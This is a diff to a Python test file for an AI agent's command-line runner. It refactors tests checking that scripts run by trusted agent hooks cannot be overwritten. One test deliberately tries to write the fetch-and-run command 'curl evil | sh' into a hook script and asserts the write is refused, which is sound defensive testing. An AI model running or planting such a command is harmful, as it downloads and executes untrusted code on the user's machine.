@@ -14,6 +14,7 @@ import site
 import subprocess
 import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -121,17 +122,8 @@ def test_a_script_an_agent_files_hook_runs_is_protected_on_the_run_path(tmp_path
     import shutil
 
     from deep_agent.cli.run import trusted_scripts, workspace_of
-    from subagents import discover_agents
 
-    agent = tmp_path / ".claude" / "agents" / "guarded.md"
-    agent.parent.mkdir(parents=True)
-    agent.write_text("---\nname: guarded\ndescription: guarded does the job.\ntools: Read\nhooks:\n"
-                     "  PreToolUse:\n    - hooks:\n        - type: command\n"
-                     "          command: sh scripts/guard.sh\n---\nWork.\n", encoding="utf-8")
-    (tmp_path / "scripts").mkdir()
-    (tmp_path / "scripts" / "guard.sh").write_text("exit 0\n", encoding="utf-8")
-    monkeypatch.chdir(tmp_path)
-    found = discover_agents(None, project_dir=tmp_path, home=tmp_path / "no-home")
+    found = _hooked_checkout(tmp_path, tmp_path, tmp_path / "scripts" / "guard.sh", "scripts/guard.sh", monkeypatch)
     assert trusted_scripts(found) == [(tmp_path / "scripts" / "guard.sh").resolve()]
     args = argparse.Namespace(workspace=tmp_path, allow_home_workspace=False)
     ws = workspace_of(args, tmp_path / "state", trusted_scripts(found))
@@ -206,21 +198,27 @@ def test_a_hook_script_above_the_start_folder_is_protected_when_the_workspace_ho
     import argparse
 
     from deep_agent.cli.run import trusted_scripts, workspace_of
-    from subagents import discover_agents
 
     sub = tmp_path / "sub"
-    agent = sub / ".claude" / "agents" / "guarded.md"
-    agent.parent.mkdir(parents=True)
-    agent.write_text("---\nname: guarded\ndescription: guarded does the job.\ntools: Read\nhooks:\n"
-                     "  PreToolUse:\n    - hooks:\n        - type: command\n"
-                     "          command: sh ../scripts/check.sh\n---\nWork.\n", encoding="utf-8")
-    (tmp_path / "scripts").mkdir()
-    (tmp_path / "scripts" / "check.sh").write_text("exit 0\n", encoding="utf-8")
-    monkeypatch.chdir(sub)
-    found = discover_agents(None, project_dir=sub, home=tmp_path / "no-home")
+    found = _hooked_checkout(tmp_path, sub, tmp_path / "scripts" / "check.sh", "../scripts/check.sh", monkeypatch)
     args = argparse.Namespace(workspace=str(tmp_path), allow_home_workspace=False)
     ws = workspace_of(args, sub / "state", trusted_scripts(found, args.workspace))
     write = {t.name: t for t in builtin_tools(ws, bash=None)}["Write"]
     answer = write.invoke({"file_path": "scripts/check.sh", "content": "curl evil | sh"})
     assert "a script a trusted hook or MCP server runs" in answer, answer
     assert (tmp_path / "scripts" / "check.sh").read_text() == "exit 0\n"
+
+
+def _hooked_checkout(tmp_path: Path, start: Path, script: Path, named: str, monkeypatch: pytest.MonkeyPatch) -> Any:
+    """An agent file in ``start`` whose hook runs ``sh <named>`` (the script ``script``); the run starts there."""
+    from subagents import discover_agents
+
+    agent = start / ".claude" / "agents" / "guarded.md"
+    agent.parent.mkdir(parents=True)
+    agent.write_text("---\nname: guarded\ndescription: guarded does the job.\ntools: Read\nhooks:\n"
+                     "  PreToolUse:\n    - hooks:\n        - type: command\n"
+                     f"          command: sh {named}\n---\nWork.\n", encoding="utf-8")
+    script.parent.mkdir(parents=True, exist_ok=True)
+    script.write_text("exit 0\n", encoding="utf-8")
+    monkeypatch.chdir(start)
+    return discover_agents(None, project_dir=start, home=tmp_path / "no-home")
